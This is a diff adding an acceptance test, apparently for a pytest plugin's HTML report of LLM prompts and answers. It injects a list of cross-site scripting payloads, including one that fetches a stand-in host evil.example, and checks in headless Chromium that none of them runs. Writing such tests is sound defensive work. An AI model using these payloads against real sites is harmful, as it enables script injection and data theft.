@@ -1,0 +1,103 @@
+"""The report of pytest-html: prompt, answer and findings of every cell, and nothing of it is run."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Page, sync_playwright
+
+from pytest_llm.chromium.find import locate
+from tests.acceptance.conftest import Bench
+from tests.fake_ollama import Script
+
+RUN = "window.pwned = 1; alert(1); fetch('http://evil.example/')"
+HOSTILE = {
+    "script": f"</script><script>{RUN}</script>",
+    "image": f'"><img src=x onerror="{RUN}">',
+    "attribute": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
+    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    "link": f'<a href="javascript:{RUN}">here</a>',
+    "svg": f"<svg/onload={RUN.replace(' ', '')}>",
+    "escaped": f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    "template": "{{ constructor.constructor('window.pwned = 1')() }} ${window.pwned = 1}",
+    "comment": f"<!-- --><script>{RUN}</script><!-- --!><script>{RUN}</script>",
+    "textarea": f"</textarea></pre></details></template><script>{RUN}</script>",
+    "control": "nul \x00 bell \x07 escape \x1b[31mred\x1b[0m back \r lone \ud800 turned \u202eknil\u202c end",
+    "long": "tick tock " * 100_000,
+}
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    program = locate(None)
+    if program is None:
+        pytest.skip("no Chromium is installed")
+    with sync_playwright() as playwright:
+        shown = playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
+        yield shown
+        shown.close()
+
+
+@pytest.fixture
+def page(browser: Browser) -> Iterator[Page]:
+    """A page that notes under `alarms` what no report may do."""
+    context = browser.new_context(viewport={"width": 1200, "height": 900})
+    shown = context.new_page()
+    shown.alarms = alarms = []  # type: ignore[attr-defined]
+    shown.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
+    shown.on("request", lambda request: request.url.startswith("http") and alarms.append(request.url))
+    shown.on("pageerror", lambda error: alarms.append(str(error)))
+    yield shown
+    context.close()
+
+
+def case(bench: Bench, name: str, text: str) -> None:
+    """A case whose prompt, thinking, answer and finding are all the hostile text."""
+    written = text[:2000].replace("\ud800", "?")
+    prompt = f"{name}: {written}"
+    bench.server.answer(prompt, Script(f"The answer is {text}", f"Thinking of {text[:2000]}"))
+    checks = json.dumps([{"equals": written}])
+    bench.case(f"prompt: {json.dumps(prompt)}\nthink: on\nchecks: {checks}", name)
+
+
+def opened(page: Page, report: Path) -> None:
+    page.goto(report.as_uri())
+    page.wait_for_selector(".llm-cell")
+    page.click("#hide_all_details")
+    page.click("#show_all_details")
+    page.wait_for_selector(".llm-cell")
+    page.mouse.move(300, 400)
+    assert page.evaluate("window.pwned") is None
+    assert page.alarms == []  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize("mode", [[], ["-n2"], ["--self-contained-html"]])
+def test_nothing_that_a_model_wrote_is_run(bench: Bench, page: Page, mode: list[str]) -> None:
+    bench.server.add_model("m", capabilities=["completion", "thinking"])
+    for name, text in HOSTILE.items():
+        case(bench, name, text)
+    result = bench.process("--html=report.html", *mode)
+    result.assert_outcomes(failed=len(HOSTILE))
+    opened(page, bench.path / "report.html")
+    shown = page.evaluate("[...document.querySelectorAll('.llm-cell pre')].map(e => e.textContent)")
+    for name, text in HOSTILE.items():
+        if name not in ("control", "long"):
+            assert f"The answer is {text}" in shown, name
+            assert f"Thinking of {text}" in shown, name
+            assert f"{name}: {text}" in shown, name
+    assert any("nul" in text and "end" in text for text in shown)
+
+
+def test_a_person_reads_what_is_wrong(bench: Bench, page: Page) -> None:
+    bench.server.answer("Describe", '```json\n{"kind": 3}\n```')
+    schema = "{type: object, properties: {kind: {type: string}}}"
+    bench.case(f"prompt: Describe <b>it</b>\nchecks: [{{schema: {schema}}}, {{contains: zzz}}]")
+    bench.process("--html=report.html", "--self-contained-html").assert_outcomes(failed=1)
+    opened(page, bench.path / "report.html")
+    text = page.text_content(".llm-cell")
+    for words in ("Describe <b>it</b>", '"kind": 3', "schema", "kind", "tokens/s", "zzz"):
+        assert words in text
+    page.screenshot(path=bench.path / "report.png", full_page=True)
